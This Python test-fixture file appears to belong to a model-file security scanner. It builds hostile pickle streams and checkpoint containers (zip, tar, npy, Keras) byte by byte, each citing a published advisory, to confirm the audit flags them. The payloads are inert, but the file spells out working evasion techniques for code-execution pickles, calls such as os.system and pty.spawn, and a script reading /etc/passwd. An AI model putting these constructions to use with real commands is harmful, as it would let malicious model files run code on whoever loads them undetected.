"""Attacks on whoever loads a model file, built opcode by opcode; the audit has to find each of them.

At least one for every published advisory on picklescan, modelscan, fickling and torch's loader that could be found,
cited, and such as were made up here. What they would run is inert (``true``, a name that does not exist), and
nothing in the tests loads them.
"""

from __future__ import annotations

import json
import pickle
import struct
import zipfile
import zlib

from tests.hostile.assembler import (
    BENIGN,
    COMMAND,
    LEGACY,
    SYSTEM,
    ZEROS,
    Attack,
    Raw,
    Value,
    behind,
    call,
    checkpoint,
    exported,
    gguf,
    name,
    new,
    npy,
    old_tar,
    onnx,
    patched,
    push,
    script,
    short,
    stacked,
    stream,
    symlinked,
    tensors,
    text,
    zipped,
)
from tests.hostile.second_search import second_search
from tests.hostile.third_search import third_search

# --- names that do harm

PUBLISHED: tuple[tuple[str, str, tuple[Value, ...], str], ...] = (
    # advisory, name, arguments, rule
    ("CVE-2025-1716 GHSA-655q-fx9r-782v", "pip:main", (["--version"],), "S101"),
    (
        "CVE-2025-10157 GHSA-f7qq-56ww-84cr GHSA-q77w-mwjj-7mqx",
        "asyncio.unix_events:_UnixSubprocessTransport._start",
        ({}, COMMAND, True, None, None, None, 0),
        "S101",
    ),
    ("GHSA-v7x6-rv5q-mhwc", "timeit:timeit", ("pass", "pass", None, 1), "S101"),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip:_run_pip", (["--version"],), "S101"),
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__:run_cprofile", ("pass", {}), "S101"),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__:run_autograd_prof", ("pass", {}), "S101"),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards:GuardBuilder.get", (None, "pass"), "S101"),
    (
        "GHSA-f4x7-rfwp-v3xw",
        "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression",
        (None, "1", ()),
        "S101",
    ),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env:run", (COMMAND,), "S101"),
    (
        "GHSA-jhph-76pp-mggw",
        "torch.utils.collect_env:run_and_read_all",
        (name("torch.utils.collect_env:run"), COMMAND),
        "S101",
    ),
    ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder:basichandlers", ("pickle", BENIGN), "S103"),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops:execWrapper", ("pass", {}, {}), "S101"),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module:ConfigModule.load_config", (None, BENIGN), "S101"),
    ("GHSA-5qwp-399c-mjwf", "trace:Trace.run", (None, "pass"), "S101"),
    ("GHSA-g344-hcph-8vgg", "trace:Trace.runctx", (None, "pass"), "S101"),
    ("GHSA-x696-vm39-cp64", "profile:Profile.run", (None, "pass"), "S101"),
    ("GHSA-6vqj-c2q5-j97w", "profile:Profile.runctx", (None, "pass", {}, {}), "S101"),
    ("GHSA-7wx9-6375-f5wh", "profile:run", ("pass",), "S101"),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar:Grammar.loads", (None, BENIGN), "S101"),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen:ParserGenerator.make_label", (None, None, "'x'"), "S101"),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj:ObjectTreeItem.SetText", (None, "1"), "S101"),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete:AutoComplete.get_entity", (None, "1"), "S101"),
    ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete:AutoComplete.fetch_completions", (None, "1", 1), "S101"),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip:Calltip.fetch_tip", (None, "1"), "S101"),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip:get_entity", ("1",), "S101"),
    ("GHSA-m869-42cg-3xwr", "idlelib.run:Executive.runcode", (None, "pass"), "S101"),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell:ModifiedInterpreter.runcommand", (None, "pass"), "S101"),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell:ModifiedInterpreter.runcode", (None, "pass"), "S101"),
    ("GHSA-cj3c-v495-4xqh", "code:InteractiveInterpreter.runcode", (None, "pass"), "S101"),
    ("GHSA-fqq6-7vqf-w3fg", "doctest:debug_script", ("pass",), "S101"),
    ("GHSA-9w88-8rmg-7g2p", "cProfile:runctx", ("pass", {}, {}), "S101"),
    ("GHSA-49gj-c84q-6qm9 GHSA-p523-jq9w-64x9 CVE-2026-22607", "cProfile:run", ("pass",), "S101"),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util:write_file", ("/nonexistent/x", []), "S101"),
    ("GHSA-4675-36f9-wf6r CVE-2025-71323 GHSA-5hvc-6wx8-mvv4 CVE-2026-22608", "ctypes:CDLL", (None,), "S101"),
    ("GHSA-vqmv-47xg-9wpr GHSA-r7v6-mfhq-g3m2 CVE-2025-67748", "pty:spawn", (COMMAND,), "S101"),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran:getlincoef", ("1", {"x": 0}), "S101"),
    ("GHSA-g38g-8gr9-h9xp CVE-2026-56315 GHSA-5hwf-rc88-82xm", "uuid:_get_command_stdout", (COMMAND,), "S101"),
    ("GHSA-g38g-8gr9-h9xp, second", "imaplib:IMAP4_stream", (COMMAND,), "S101"),
    ("GHSA-g38g-8gr9-h9xp, third", "_pyrepl.pager:pipe_pager", ("", COMMAND), "S101"),
    ("GHSA-g38g-8gr9-h9xp, fourth", "_osx_support:_read_output", (COMMAND,), "S101"),
    ("GHSA-g38g-8gr9-h9xp, fifth", "_aix_support:_read_cmd_output", (COMMAND,), "S101"),
    ("GHSA-vvpj-8cmc-gx39", "pkgutil:resolve_name", ("os:system",), "S102"),
    ("picklescan#66", "importlib:import_module", ("os",), "S102"),
    ("picklescan#69", "mailcap:findmatch", ({}, "x/x"), "S101"),
    ("picklescan#74", "marshal:loads", (b"N",), "S103"),
    (
        "GHSA-wfq2-52f7-7qvj CVE-2026-22606 GHSA-q5qq-mvfm-j35x CVE-2026-22609",
        "runpy:run_path",
        ("/nonexistent.py",),
        "S101",
    ),
    ("GHSA-q5qq-mvfm-j35x, second", "multiprocessing.util:spawnv_passfds", (b"/bin/true", ["true"], ()), "S101"),
    ("GHSA-m6fh-58r7-x697", "_posixsubprocess:fork_exec", ([b"true"],), "S101"),
    ("GHSA-m6fh-58r7-x697, second", "site:addsitedir", ("/nonexistent",), "S106"),
    ("GHSA-m6fh-58r7-x697, third", "atexit:register", (name("builtins:print"),), "S106"),
    ("GHSA-6ggj-6f2q-f7mx", "_interpreters:run_string", (0, "pass"), "S101"),
    ("GHSA-cffv-grgg-g429 CVE-2026-14535", "smtplib:SMTP", ("127.0.0.1",), "S105"),
    ("GHSA-mhc9-48gj-9gp3, names", "signal:signal", (15, 1), "S106"),
    ("GHSA-mhc9-48gj-9gp3, network", "socketserver:TCPServer", (("127.0.0.1", 0), None), "S105"),
    ("modelscan#311", "commands:getoutput", (COMMAND,), "S101"),
    ("modelscan#338, torch.utils.collect_env", "torch.library:torch.utils.collect_env.run", (COMMAND,), "S101"),
    ("modelscan#338, multiprocessing", "multiprocessing.util:_exit_function", (), "S101"),
    ("modelscan#338, mlflow", "mlflow.projects.backend.local:_run_entry_point", (COMMAND, ".", "", ""), "S101"),
    ("modelscan#338, pandas", "pandas.io.parsers.readers:read_csv", ("http://127.0.0.1:1/x",), "S104"),
    ("modelscan#338, urllib", "urllib.request:urlretrieve", ("http://127.0.0.1:1/x", "/nonexistent/x"), "S105"),
    ("modelscan#267", "pickle:loads", (BENIGN,), "S103"),
    ("modelscan#267, the C module", "_pickle:loads", (BENIGN,), "S103"),
    ("arXiv:2508.19774, joblib", "joblib:load", ("/nonexistent",), "S103"),
    ("arXiv:2508.19774, numpy", "numpy:load", ("/nonexistent",), "S103"),
    ("arXiv:2508.19774, torch.hub", "torch.hub:load", ("nobody/nothing", "x"), "S103"),
    ("arXiv:2508.19774, torch.jit", "torch.jit:load", ("/nonexistent",), "S103"),
    ("arXiv:2508.19774, torch.load", "torch:load", ("/nonexistent",), "S103"),
    ("arXiv:2508.19774, torch.serialization", "torch.serialization:load", ("/nonexistent",), "S103"),
    ("arXiv:2508.19774, numpy.memmap", "numpy:memmap", ("/nonexistent", "uint8", "w+"), "S104"),
    ("arXiv:2508.19774, inductor", "torch._inductor.codecache:compile_file", ("", "", [COMMAND]), "S101"),
    ("arXiv:2508.19774, numpy.testing", "numpy.testing._private.utils:runstring", ("pass", {}), "S101"),
)
"""Functions that scanners were reported to miss, called as their reports call them."""

OTHERS: dict[str, tuple[str, ...]] = {
    "S101": (
        *("posix:system", "nt:system", "subprocess:Popen", "subprocess:check_output", "builtins:exec"),
        *("builtins:eval", "builtins:compile", "builtins:breakpoint", "__builtin__:eval", "__builtin__:apply"),
        *("__builtin__:execfile", "bdb:Bdb", "pdb:run", "venv:create", "webbrowser:open", "pydoc:pipepager"),
        *("ctypes:string_at", "cffi:FFI", "types:FunctionType", "types:CodeType", "concurrent.futures:Executor"),
        *("test.support.script_helper:assert_python_ok", "unittest.mock:patch", "functools:reduce"),
        *("builtins:map", "itertools:starmap", "logging.config:dictConfig", "dataclasses:make_dataclass"),
        *("IPython:embed", "torch.utils.cpp_extension:load_inline", "torch.distributed.run:main"),
        *("torch.fx.graph_module:reduce_graph_module", "torch._C:_jit_", "torch.backends.xeon.run_cpu:main"),
        *("torch.ops:load_library", "torch.classes:load_library", "torch.testing._internal.common_utils:shell"),
        *("torch.distributed.elastic.multiprocessing.subprocess_handler:SubprocessHandler", "numpy.distutils:x"),
        *("distutils.spawn:spawn", "setuptools:setup", "popen2:popen3", "copy:deepcopy", "cgitb:handler"),
    ),
    "S102": (
        *("builtins:getattr", "builtins:__import__", "builtins:setattr", "builtins:vars", "operator:attrgetter"),
        *("_operator:methodcaller", "operator:itemgetter", "operator:call", "importlib.util:spec_from_file_location"),
        *("importlib.machinery:SourceFileLoader", "zipimport:zipimporter", "imp:load_source", "inspect:getattr_static"),
        *(
            "numpy:__builtins__",
            "collections:__builtins__",
            "pathlib:os.system",
            "torch:os.system",
            "numpy.ma:core.inspect",
        ),
        *("numpy.core:_ufunc_reconstruct", "statistics:sys", "fractions:sys", "torch.nn:io.open_code"),
        *("mypackage.tools:Popen", "mypackage.tools:os.system", "mypackage.tools:subprocess", "mypackage:_sys"),
        *("functools:partialmethod", "string:Formatter", "weakref:finalize", "copyreg:pickle"),
    ),
    "S103": (
        *("pickle:Unpickler", "cPickle:loads", "dill:loads", "cloudpickle:loads", "shelve:open", "yaml:load"),
        *("torch.storage:_load_from_bytes.x", "torch.package:PackageImporter", "torch.utils.model_zoo:load_url"),
        *("torch.distributed.checkpoint:load", "pandas:read_pickle", "jsonpickle:decode", "tensorflow:load_op_library"),
        "torch.utils.data.datapipes.datapipe:_DataPipeSerializationWrapper",
    ),
    "S104": (
        *("builtins:open", "io:open", "_io:FileIO", "codecs:open", "shutil:rmtree", "tempfile:mkdtemp"),
        *("logging:FileHandler", "logging.handlers:RotatingFileHandler", "zipfile:ZipFile", "tarfile:open"),
        *("gzip:GzipFile", "zlib:decompress", "bz2:decompress", "mmap:mmap", "glob:glob", "torch:from_file"),
        *("torchvision.datasets:CIFAR10", "torchvision.io:write_file", "PIL.Image:open", "numpy:fromfile"),
    ),
    "S105": (
        *("socket:create_connection", "socket:socket", "ssl:get_server_certificate", "http.client:HTTPSConnection"),
        *("httplib:HTTPSConnection", "requests.api:get", "aiohttp.client:ClientSession", "urllib2:urlopen"),
        *("ftplib:FTP", "telnetlib:Telnet", "xmlrpc.client:ServerProxy", "boto3:client", "torch.distributed:TCPStore"),
    ),
    "S106": (
        *("sys:exit", "sys:setrecursionlimit", "threading:Thread", "faulthandler:_sigsegv", "resource:setrlimit"),
        *("builtins:exit", "picklescan.scanner:scan_file_path", "fickling:always_check_safety", "time:sleep"),
    ),
    "S107": (
        *("textwrap:dedent", "torch:relu", "torch.utils.nothing_known:run", "numpy:einsum", "torch:Nothing"),
        *("torchvision.models:resnet50", "struct:Struct", "base64:b64decode", "binascii:unhexlify"),
    ),
    "S111": ("mypackage.restore:rebuild", "somewhere:run", "__main__:load"),
}
"""Further names, by the rule that has to find them called."""


def named() -> list[Attack]:
    found = []
    for cites, path, args, code in PUBLISHED:
        found.append(
            Attack(f"{path} ({cites})", stream(call(path, *args)), code, cites=tuple(cites.split(", ")[0].split()))
        )
    for code, paths in OTHERS.items():
        answer = "needs classes" if code == "S111" else "dangerous"
        for path in paths:
            found.append(Attack(f"{path} called", stream(call(path, "x")), code, answer=answer))
    for path in ("os:system", "builtins:eval", "torch.hub:load", "pathlib:os.system", "pickle:loads"):
        code = next(
            c
            for c, p in (("S101", "os builtins"), ("S103", "torch.hub pickle"), ("S102", "pathlib"))
            if path.partition(":")[0] in p.split()
        )
        found.append(Attack(f"{path} held", stream({"activation": stacked(path)}), code))
    return found


# --- ways to say it


def spellings() -> list[Attack]:
    """``os.system`` in every way that there is to name and call something."""
    ways = {
        "REDUCE": stream(SYSTEM),
        "GLOBAL": stream(call(name("os:system"), COMMAND), protocol=2),
        "protocol 0": b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR.",
        "OBJ": b"\x80\x04(" + stacked("os:system").code + text(COMMAND) + b"o.",
        "dropped": stream(SYSTEM, None),
        "in a key": b"\x80\x04}" + SYSTEM.code + b"Ns.",
        "in a persistent id": b"\x80\x02" + SYSTEM.code + b"Q.",
        "before a benign state_dict": tensors(SYSTEM),
        "in the middle of a list": stream([1, SYSTEM, 2]),
        "BINUNICODE8": b"\x80\x04\x8d"
        + struct.pack("<Q", 2)
        + b"os"
        + short("system")
        + b"\x93"
        + push((COMMAND,))
        + b"R.",
        "strings of Python 2": b"\x80\x02U\x02osU\x06system\x93" + push((COMMAND,)) + b"R.",
        "STRING": b"\x80\x04S'os'\nS'system'\n\x93" + push((COMMAND,)) + b"R.",
        "UNICODE": b"\x80\x04Vo\\u0073\nVsystem\n\x93" + push((COMMAND,)) + b"R.",
        "frames of length 0": b"\x80\x04\x95" + bytes(8) + stream(SYSTEM)[2:],
        "Python 2's name": stream(call(name("__builtin__:eval"), "1"), protocol=2),
        "a protocol that changes": b"\x80\x04\x80\x02" + call(name("__builtin__:eval"), "1").code + b".",
        "by DUP": b"\x80\x04" + stacked("os:system").code + b"2" + push((COMMAND,)) + b"R.",
        "by POP_MARK": b"\x80\x04(" + SYSTEM.code + b"1N.",
        "BUILD behind it": stream(Raw(SYSTEM.code + push({"x": 1}) + b"b")),
        "copyreg._reconstructor": stream(
            call("copyreg:_reconstructor", stacked("subprocess:Popen"), stacked("builtins:object"), None)
        ),
        "NEWOBJ": stream(new("subprocess:Popen", ["true"])),
        "NEWOBJ_EX": b"\x80\x04" + stacked("subprocess:Popen").code + push((["true"],)) + b"}\x92.",
    }
    found = [Attack(f"os.system by {way}", data, "S101") for way, data in ways.items()]
    memo = b"\x80\x04" + short("os") + b"q\x00" + short("system") + b"q\x01"
    safe = short("torch._utils") + b"\x94" + short("_rebuild_tensor_v2") + b"\x94"
    rest = b"h\x00h\x01\x93" + push((COMMAND,)) + b"R."
    return [
        *found,
        Attack("memo confusion", memo + safe + rest, "S101", cites=("picklescan#14",)),
        Attack(
            "the memo's argument is not what is put",
            b"\x80\x04"
            + short("torch")
            + short("os")
            + b"q\x0000"
            + b"h\x00"
            + short("system")
            + b"\x93"
            + push((COMMAND,))
            + b"R.",
            "S101",
            cites=("picklescan#22",),
        ),
        Attack("INST", b"(V" + COMMAND.encode() + b"\nios\nsystem\n.", "S101", cites=("picklescan#13", "modelscan#51")),
        Attack(
            "OBJ whose result is dropped",
            b"\x80\x04(" + stacked("smtplib:SMTP").code + text("127.0.0.1") + b"o0N.",
            "S105",
            cites=("GHSA-mxhj-88fx-4pcv",),
        ),
        Attack(
            "REDUCE and BUILD",
            stream(Raw(call("signal:signal", 15, 1).code + push({"x": 1}) + b"b")),
            "S106",
            cites=("GHSA-mhc9-48gj-9gp3",),
        ),
        Attack(
            "an unused result made use of",
            stream({"x": Raw(call("builtins:__import__", "os").code)}),
            "S102",
            cites=("GHSA-h4rm-mm56-xf63", "CVE-2026-22612"),
        ),
        Attack(
            "pydoc.locate and methodcaller",
            stream(call(call("operator:methodcaller", "system", COMMAND), call("pydoc:locate", "os"))),
            "S101",
            cites=("GHSA-84r2-jw7c-4r5q",),
        ),
        Attack(
            "methodcaller on __import__",
            stream(call(call("_operator:methodcaller", "system", COMMAND), call("builtins:__import__", "os"))),
            "S102",
            cites=("GHSA-955r-x9j8-7rhh",),
        ),
        Attack(
            "attrgetter on __import__",
            stream(call(call(call("_operator:attrgetter", "system"), call("builtins:__import__", "os")), COMMAND)),
            "S102",
            cites=("GHSA-46h3-79wf-xr6c",),
        ),
        Attack(
            "marshal and FunctionType",
            stream(call(call("types:FunctionType", call("marshal:loads", b"N"), {}))),
            "S103",
            cites=("GHSA-565g-hwwr-4pp3", "CVE-2025-67747"),
        ),
        Attack(
            "BUILD on numpy.prod",
            b"\x80\x05"
            + name("numpy:prod").code
            + push((None, {"a": "os"}))
            + b"b0"
            + name("numpy:prod.a").code
            + b"0N.",
            "S110",
            cites=("modelscan#85",),
        ),
        Attack(
            "BUILD on numpy.size",
            b"\x80\x04"
            + stacked("numpy:size").code
            + b"\x94\x94"
            + stacked("numpy:__builtins__").code
            + b"\x94\x94h\x01}}"
            + short("shape")
            + b"h\x03s\x86b0h\x01h\x01"
            + short("eval")
            + b"\x86R"
            + short("1")
            + b"\x85R.",
            "S110",
            cites=("modelscan#330",),
        ),
        Attack(
            "names put together",
            stream(call(call("builtins:getattr", call("importlib:import_module", "builtins"), "str"))),
            "S102",
            cites=("modelscan#331",),
        ),
        Attack(
            "a payload deflated",
            stream(call("builtins:exec", call("zlib:decompress", zlib.compress(b"pass")))),
            "S101",
            cites=("modelscan#338",),
        ),
    ]


# --- streams that make readers give up


def broken() -> list[Attack]:
    """Streams that act before they break, and break before a scanner has looked at them."""
    begin = b"\x80\x04" + SYSTEM.code
    cases = {
        "no STOP": begin,
        "an unknown opcode": begin + b"\xff.",
        "a memo entry that is not there": begin + b"0h\x63.",
        "bytes for a name": begin + b"0C\x02os" + short("system") + b"\x93.",
        "a number for a name": begin + b"0J*\0\0\0" + short("os") + b"\x93.",
        "a bytearray for a name": begin + b"0" + short("os") + b"\x96" + struct.pack("<Q", 6) + b"system\x93.",
        "too few values": begin + b"00.",
        "text that is no UTF-8": begin + b"0\x8c\x02\xff\xfe.",
        "a string too long": begin + b"0X\xff\xff\xff\x7fabc",
        "an integer of many digits": begin + b"0I" + b"9" * 5000 + b"\n.",
        "an out-of-band buffer": begin + b"0\x97.",
        "a list as a key": begin + b"0}]Ns.",
        "arguments that are no tuple": begin + b"0" + stacked("os:system").code + b"K\x01R.",
        "a frame too long": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + SYSTEM.code + b".",
        "a protocol that does not exist": b"\x80\x09" + SYSTEM.code + b"\xff.",
    }
    found = [
        Attack(f"broken by {way}", data, "S101", cites=("GHSA-9gvj-pp9x-gcfr", "modelscan#338", "arXiv:2508.19774"))
        for way, data in cases.items()
    ]
    found += [
        Attack(f"broken by {way}, as data.pkl", checkpoint(data, ZEROS), "S101", ".pt", cites=("modelscan#338",))
        for way, data in cases.items()
    ]
    cut = b"\x80\x02}(" + text("x") + b"K\x01" + text("y")
    found.append(Attack("nothing but a beginning", cut, "I103", answer="", cites=("arXiv:2508.19774",)))
    return found


# --- containers


def containers() -> list[Attack]:
    """The same deed in every kind of file that one of the loaders opens, and in those that scanners misread."""
    evil = stream(SYSTEM)
    torch_zip = checkpoint(evil, ZEROS)
    good_zip = checkpoint(tensors(), ZEROS)
    local, central = b"PK\x03\x04", b"PK\x01\x02"
    crc = zlib.crc32(evil).to_bytes(4, "little")
    legacy = LEGACY + stream(SYSTEM, {}, protocol=2) + pickle.dumps([], 2)
    b64 = "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"  # posix.system("true"), by pickle.dumps
    return [
        Attack("a zip of torch", torch_zip, "S101", ".pt"),
        Attack("a legacy file", legacy, "S101", ".pt"),
        Attack(
            "the first pickle of a legacy file",
            stream(SYSTEM, Raw(LEGACY[2:13]), protocol=2) + legacy[14:],
            "S101",
            ".pt",
        ),
        Attack(
            "sys_info of a legacy file",
            b"".join(pickle.dumps(v, 2) for v in (0x1950A86A20F9469CFC6C, 1001))
            + stream(SYSTEM, {"little_endian": True}, protocol=2)
            + pickle.dumps({}, 2)
            + pickle.dumps([], 2),
            "S101",
            ".pt",
        ),
        Attack(
            "the keys of a legacy file", LEGACY + pickle.dumps({}, 2) + stream(SYSTEM, [], protocol=2), "S101", ".pt"
        ),
        Attack(
            "a tar of torch, which weights_only loaded up to 2.5",
            old_tar(stream(SYSTEM, {}, protocol=2)),
            "S101",
            ".pt",
            cites=("CVE-2025-32434", "GHSA-53q9-r3pm-6pq6"),
        ),
        Attack("a pickle under another suffix", evil, "S101", ".bin", cites=("CVE-2025-10155", "GHSA-jgw4-cr84-mqxg")),
        Attack("a pickle under the suffix of safetensors", evil, "S101", ".safetensors", cites=("CVE-2025-10155",)),
        Attack("a zip under the suffix of a pickle", torch_zip, "S101", ".pkl", cites=("CVE-2025-1889",)),
        Attack(
            "a pickle in a member of another name",
            zipped(
                [
                    ("archive/data.pkl", stream(call("torch:load", "archive/config.p"))),
                    ("archive/config.p", evil),
                    ("archive/version", b"3\n"),
                ]
            ),
            "S101",
            ".pt",
            cites=("CVE-2025-1889", "GHSA-769v-p64c-89pr"),
        ),
        Attack(
            "a pickle under the name of a storage",
            checkpoint(tensors(), ("archive/data/0", evil + bytes(64)), ("archive/data/1", evil)),
            "S101",
            ".pt",
        ),
        Attack("a member that is not torch's", checkpoint(tensors(), ZEROS, ("archive/extra", evil)), "S101", ".pt"),
        Attack(
            "names that differ between the headers",
            patched(torch_zip, local, 30, b"archive/dAta.pkl"),
            "S101",
            ".pt",
            cites=("CVE-2025-1944", "GHSA-7q5r-7gvp-wc82"),
        ),
        Attack(
            "a flag in the local header",
            patched(torch_zip, local, 6, b"\x01\x00"),
            "S101",
            ".pt",
            cites=("CVE-2025-1945", "GHSA-w8jq-xcqf-f792"),
        ),
        Attack(
            "flags in both headers",
            patched(patched(torch_zip, local, 6, b"\x20\x00"), central, 8, b"\x20\x00"),
            "S101",
            ".pt",
            cites=("CVE-2025-1945",),
        ),
        Attack(
            "a wrong checksum",
            torch_zip.replace(crc, b"\0\0\0\1"),
            "S101",
            ".pt",
            cites=("CVE-2025-10156", "GHSA-mjqp-26hc-grxg"),
        ),
        Attack(
            "a damaged member before the pickle",
            patched(
                zipped([("archive/a", b"x" * 64), ("archive/data.pkl", evil), ("archive/version", b"3\n")]),
                central,
                16,
                b"\0\0\0\1",
            ),
            "S101",
            ".pt",
            cites=("modelscan#354",),
        ),
        Attack(
            "an encrypted member before the pickle",
            patched(
                zipped([("archive/a", b"x" * 64), ("archive/data.pkl", evil), ("archive/version", b"3\n")]),
                central,
                8,
                b"\1\0",
            ),
            "S101",
            ".pt",
            cites=("modelscan#354", "modelscan#215"),
        ),
        Attack(
            "two members of one name",
            zipped([("archive/data.pkl", evil), ("archive/data.pkl", BENIGN), ("archive/version", b"3\n")]),
            "S101",
            ".pt",
        ),
        Attack(
            "two members of one name, the other way",
            zipped([("archive/data.pkl", BENIGN), ("archive/data.pkl", evil), ("archive/version", b"3\n")]),
            "S101",
            ".pt",
        ),
        Attack(
            "names that differ in case",
            zipped([("archive/data.pkl", BENIGN), ("archive/DATA.PKL", evil), ("archive/version", b"3\n")]),
            "S101",
            ".pt",
        ),
        Attack("deflated", checkpoint(evil, ZEROS, method=zipfile.ZIP_DEFLATED), "S101", ".pt"),
        Attack("a pickle before the archive", evil + good_zip, "S101", ".pt"),
        Attack("an archive before the archive", behind(torch_zip, tensors()), "S119", ".pt", answer=""),
        Attack("a program before the archive", behind(b"#!/bin/sh\ntrue\n", tensors()), "S119", ".pt", answer=""),
        Attack(
            "a legacy file with an archive behind it",
            behind(LEGACY + pickle.dumps({}, 2) + pickle.dumps([], 2), evil),
            "S119",
            ".pt",
        ),
        Attack("safetensors with an archive behind it", b"\x02\0\0\0\0\0\0\0{}" + torch_zip, "S101", ".safetensors"),
        Attack("a second pickle", BENIGN + evil, "S101"),
        Attack("a pickle after padding", BENIGN + bytes(512) + evil, "S101"),
        Attack(
            "a pickle after a legacy file", LEGACY + pickle.dumps({}, 2) + pickle.dumps([], 2) + evil, "S101", ".pt"
        ),
        Attack("an array of objects", npy(evil), "S101", ".npy", cites=("modelscan#338", "CVE-2019-6446")),
        Attack(
            "an array of objects in an archive",
            zipped([("x.npy", npy(evil))]),
            "S101",
            ".npz",
            cites=("CVE-2019-6446",),
        ),
        Attack("a member of an archive of arrays", zipped([("x.npy", npy(BENIGN)), ("y", evil)]), "S101", ".npz"),
        Attack("a checkpoint in an archive", zipped([("policy.pth", torch_zip), ("data", b"{}")]), "S101", ".zip"),
        Attack("an archive in an archive", zipped([("a.zip", zipped([("b.pt", torch_zip)]))]), "S101", ".zip"),
        Attack(
            "a serialized value of Stable-Baselines3",
            zipped(
                [
                    ("data", json.dumps({"policy": {":type:": "x", ":serialized:": b64}}).encode()),
                    ("policy.pth", good_zip),
                    ("_stable_baselines3_version", b"2.0"),
                ]
            ),
            "S101",
            ".zip",
        ),
        Attack(
            "a script's data",
            zipped([("a/data.pkl", evil), ("a/constants.pkl", stream(())), ("a/version", b"3\n")]),
            "S101",
            ".pt",
        ),
        Attack(
            "a script's constants",
            zipped([("a/data.pkl", stream({})), ("a/constants.pkl", evil), ("a/version", b"3\n")]),
            "S101",
            ".pt",
        ),
        Attack(
            "an exported program's weights",
            zipped(
                [
                    ("serialized_exported_program.json", b"{}"),
                    ("serialized_state_dict.pt", torch_zip),
                    ("serialized_constants.pt", torch_zip),
                    ("version", b"1"),
                ]
            ),
            "S101",
            ".pt2",
            cites=("CVE-2026-4538",),
        ),
        Attack(
            "a distributed checkpoint's metadata",
            b"",
            "S101",
            "",
            files=((".metadata", evil), ("__0_0.distcp", torch_zip)),
        ),
        Attack(
            "a shard",
            b"",
            "S101",
            "",
            files=(
                (
                    "pytorch_model.bin.index.json",
                    json.dumps({"metadata": {}, "weight_map": {"weight": "pytorch_model-00001-of-00001.bin"}}).encode(),
                ),
                ("pytorch_model-00001-of-00001.bin", torch_zip),
            ),
        ),
        Attack(
            "a file beside the model",
            b"",
            "S101",
            "",
            files=(
                ("adapter_config.json", b"{}"),
                ("adapter_model.safetensors", b"\x02\0\0\0\0\0\0\0{}"),
                ("training_args.bin", evil),
            ),
        ),
    ]


def unread() -> list[Attack]:
    """What is not read is said to be unread, never clean."""
    evil = checkpoint(stream(SYSTEM))
    import bz2
    import gzip
    import lzma

    packed = {
        "gzip": gzip.compress(evil, mtime=0),
        "bzip2": bz2.compress(evil),
        "xz": lzma.compress(evil),
        "zlib": zlib.compress(stream(SYSTEM)),
    }
    found = [
        Attack(f"compressed by {how}", data, "S101", ".bin", cites=("picklescan#68", "modelscan#345"))
        for how, data in packed.items()
    ]
    seven = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + stream(SYSTEM)
    keras = zipped(
        [
            ("metadata.json", b"{}"),
            (
                "config.json",
                json.dumps(
                    {
                        "class_name": "Sequential",
                        "config": {"layers": [{"class_name": "Lambda", "config": {"function": "x"}}]},
                    }
                ).encode(),
            ),
            ("model.weights.h5", b"\x89HDF\r\n\x1a\n"),
        ]
    )
    module = zipped(
        [
            ("metadata.json", b"{}"),
            ("config.json", json.dumps({"module": "os", "class_name": "function", "config": "system"}).encode()),
            ("model.weights.h5", b""),
        ]
    )
    return [
        *found,
        Attack("a 7z archive", seven, "I105", ".bin", answer="", cites=("modelscan#338", "nullifAI")),
        Attack(
            "an encrypted archive",
            patched(evil, b"PK\x01\x02", 8, b"\1\0"),
            "I105",
            ".pt",
            answer="",
            cites=("modelscan#215",),
        ),
        Attack("HDF5", b"\x89HDF\r\n\x1a\n" + bytes(64), "I105", ".h5", answer=""),
        Attack(
            "a Lambda layer of Keras",
            keras,
            "S127",
            ".keras",
            answer="",
            cites=("CVE-2024-3660", "CVE-2025-9905", "modelscan#343"),
        ),
        Attack(
            "a module named by Keras", module, "S127", ".keras", answer="", cites=("CVE-2025-1550", "CVE-2025-8747")
        ),
        Attack("nothing known", b"\x01\x02\x03\x04" * 100, "I101", ".bin", answer=""),
    ]


# --- torch's own loader, and its other programs


def elsewhere() -> list[Attack]:
    """Attacks without a pickle that does harm."""
    good = checkpoint(tensors(), ZEROS)
    tensor_items = b"\x80\x02" + tensors()[2:-1]
    inner = name("torch._utils:_rebuild_tensor_v2").code
    at = tensor_items.index(inner)
    whole = tensor_items[at : tensor_items.rindex(b"u")]
    return [
        Attack(
            "items set on a tensor",
            checkpoint(b"\x80\x02" + whole + b"K\x00K\x01s.", ZEROS),
            "S110",
            ".pt",
            cites=("CVE-2026-24747", "GHSA-63cw-57p8-fm3p"),
        ),
        Attack(
            "a storage shorter than it says",
            checkpoint(tensors(numel=1000), ZEROS),
            "I103",
            ".pt",
            answer="",
            cites=("CVE-2026-24747",),
        ),
        Attack(
            "a script that writes a file",
            script('torch.save(x, "/nonexistent/x")'),
            "S120",
            ".pt",
            answer="",
            cites=("CVE-2025-32434",),
        ),
        Attack(
            "a script that reads a file",
            script('y = torch.from_file("/etc/passwd", False, 4)'),
            "S120",
            ".pt",
            answer="",
        ),
        Attack(
            "a script that writes an image",
            script('_0 = ops.image.write_file("/nonexistent/x", x)'),
            "S120",
            ".pt",
